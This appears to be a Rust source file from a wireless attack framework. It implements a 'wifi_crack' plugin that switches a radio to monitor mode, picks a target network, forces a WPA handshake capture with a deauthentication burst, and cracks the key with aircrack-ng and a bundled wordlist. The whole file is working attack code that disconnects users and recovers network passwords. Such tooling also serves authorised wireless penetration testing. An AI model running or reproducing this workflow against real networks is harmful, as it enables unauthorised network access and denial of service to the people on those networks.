//! The handshake capture-and-crack workflow.
//!
//! Four phases: pick a monitor-capable radio and flip it, scan for the
//! target, capture a handshake with a deauth burst, then run the wordlist
//! through aircrack-ng. The radio is restored on every exit path.

use crate::{
    capture::{CaptureManager, CaptureManagerBuilder},
    config::Config,
    crack::{CrackingManager, CrackingManagerBuilder},
    error::Error,
    iface::InterfaceController,
    plugin::{evil_twin::choose_target, Plugin},
    scan::NetworkScanner,
    state::{context::keys, RunContext},
};
use anyhow::{Context, Result};
use async_trait::async_trait;
use log::{info, warn};
use std::time::Duration;

/// Stem of the bundled wordlist, resolved through the cracking manager.
const DEFAULT_WORDLIST_STEM: &str = "wordlist-top4800-probable";

pub struct WifiCrackPlugin {
    config: Config,
    controller: InterfaceController,
    scanner: NetworkScanner,
    capture: CaptureManager,
    cracking: CrackingManager,
}

impl WifiCrackPlugin {
    pub fn new(config: Config) -> Self {
        let capture = CaptureManagerBuilder::default()
            .work_dir(config.work_dir().clone())
            .build()
            .unwrap_or_default();
        let cracking = CrackingManagerBuilder::default()
            .wordlist_dir(config.wordlist_dir().clone())
            .build()
            .unwrap_or_default();
        Self {
            config,
            controller: InterfaceController::default(),
            scanner: NetworkScanner::default(),
            capture,
            cracking,
        }
    }

    fn pick_radio(&self, ctx: &RunContext) -> Result<String> {
        if let Some(name) = ctx.get_str(keys::DEAUTH_IFACE) {
            return Ok(name);
        }
        ctx.state()
            .interfaces_filtered(true, true, true)
            .first()
            .map(|i| i.name().clone())
            .ok_or_else(|| {
                Error::RoleAssignmentFailed("no monitor-capable interface available".into()).into()
            })
    }

    async fn phases(&self, ctx: &RunContext, monitor: &str) -> Result<bool> {
        let duration = Duration::from_secs(
            ctx.get_u64(keys::SCAN_DURATION)
                .unwrap_or(self.config.scan_duration()),
        );
        let filter = ctx
            .get_str(keys::SECURITY_FILTER)
            .unwrap_or_else(|| self.config.security_filter().clone());
        let networks = self.scanner.scan(monitor, duration, &filter).await?;
        let target = choose_target(&networks, ctx)?;
        info!(
            "Crack target: '{}' ({}) on channel {}",
            target.essid(),
            target.bssid(),
            target.channel()
        );

        let prefix = format!("handshake_{}", target.bssid().replace(':', ""));
        let cap_path = self
            .capture
            .capture_handshake(
                monitor,
                target.bssid(),
                target.channel().trim(),
                &prefix,
                Duration::from_secs(
                    ctx.get_u64(keys::CAPTURE_DURATION)
                        .unwrap_or(self.config.capture_duration()),
                ),
                ctx.get_u64(keys::DEAUTH_COUNT)
                    .unwrap_or(self.config.deauth_count() as u64) as u32,
            )
            .await?;
        ctx.set(keys::HANDSHAKE_FILE, cap_path.to_string_lossy().as_ref());

        let stem = ctx
            .get_str(keys::WORDLIST)
            .unwrap_or_else(|| DEFAULT_WORDLIST_STEM.to_string());
        let wordlist = match self.cracking.find_wordlist(&stem) {
            Ok(wordlist) => wordlist,
            Err(e) => {
                // No wordlist means no key, not an abort.
                warn!("Cracking skipped: {:#}", e);
                return Ok(false);
            }
        };
        match self
            .cracking
            .crack(&cap_path, wordlist.path())
            .await
            .context("run cracking phase")?
        {
            Some(key) => {
                ctx.set(keys::CRACKED_PASSWORD, key.as_str());
                Ok(true)
            }
            None => Ok(false),
        }
    }
}

#[async_trait]
impl Plugin for WifiCrackPlugin {
    fn name(&self) -> &str {
        "wifi_crack"
    }

    async fn run(&self, ctx: &RunContext, _args: &[String]) -> Result<bool> {
        let radio = self.pick_radio(ctx)?;
        let (monitor, we_disabled_nm) = self
            .controller
            .enable_monitor_mode(ctx.state(), &radio)
            .await?;

        let outcome = self.phases(ctx, &monitor).await;

        self.controller
            .restore_interface_state(ctx.state(), &radio, we_disabled_nm, &monitor)
            .await;

        match &outcome {
            Ok(true) => info!(
                "Crack complete, key recovered: see context '{}'",
                keys::CRACKED_PASSWORD
            ),
            Ok(false) => warn!("Crack unsuccessful"),
            Err(e) => warn!("Crack workflow aborted: {:#}", e),
        }
        outcome
    }
}
